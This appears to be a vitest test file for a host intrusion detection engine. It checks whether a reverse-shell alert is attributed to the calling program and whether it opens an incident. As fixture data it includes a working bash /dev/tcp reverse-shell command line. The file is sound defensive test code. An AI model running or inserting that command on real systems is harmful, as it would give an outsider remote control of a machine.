import { describe, expect, it } from 'vitest';
import { batch, proc } from '../../test/support/fixtures';
import { DEFAULT_ENGINE_OPTIONS, DetectionEngine, type EngineOptions } from './engine';
import { loadRuleSet } from './rules/rule-directory';

const rules = loadRuleSet();
const S = 1_000;
const OPTS: EngineOptions = { ...DEFAULT_ENGINE_OPTIONS, learningPeriodMs: 60 * S };
const REVERSE = ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1'];

/** A long-lived program that starts commands (a test harness in node, or an admin's shell) runs a reverse shell whose own process is not in the batch. */
function run(callerExe: string) {
  const e = new DetectionEngine(rules, OPTS);
  const caller = (t: number, execs: { filename: string; argv: string[] }[] = []) =>
    proc({ pid: 500, ppid: 1, exe: callerExe, uid: 0, gid: 0, ancestry: ['/usr/lib/systemd/systemd'], files: [], network: [], execs: execs.map((x, i) => ({ time: t - 1000 + i, ret: 0, ...x })) });
  let t = 0;
  for (; t <= 90 * S; t += 10 * S) e.processBatch(batch(t, [caller(t)]));
  const first = e.processBatch(batch(t, [caller(t, [{ filename: '/usr/bin/bash', argv: REVERSE }])]));
  // later, the same program starts an ordinary command that reads a file it never read
  t += 10 * S;
  const later = e.processBatch(
    batch(t, [caller(t), proc({ pid: 600, ppid: 500, exe: '/usr/bin/cat', uid: 0, gid: 0, ancestry: [callerExe, '/usr/lib/systemd/systemd'], ancestorPids: [500, 1], files: [{ path: '/etc/ssh/sshd_config', flags: 0, ret: 3, count: 1, firstSeen: 0 }], network: [] })]),
  );
  return { first: first.alerts, later: later.alerts };
}

describe("an exec rule's alert left on the program that made the exec", () => {
  it('on a program that starts stories of its own (a node harness), names the act but opens no incident that its later commands would join', () => {
    const { first, later } = run('/usr/bin/node');
    const reverse = first.find((a) => a.kind === 'reverse-shell-command');
    expect(reverse?.program).toBe('/usr/bin/node');
    expect(reverse?.incidentId ?? null).toBeNull();
    expect((reverse?.data as { onCaller?: boolean }).onCaller).toBe(true);
    expect(later.every((a) => (a.incidentId ?? null) === null)).toBe(true);
  });

  it('on a shell (the command line it runs is its own story), opens the incident as before', () => {
    const { first } = run('/usr/bin/bash');
    const reverse = first.find((a) => a.kind === 'reverse-shell-command');
    expect(reverse?.incidentId).toEqual(expect.any(String));
    expect((reverse?.data as { onCaller?: boolean }).onCaller).toBeUndefined();
  });
});
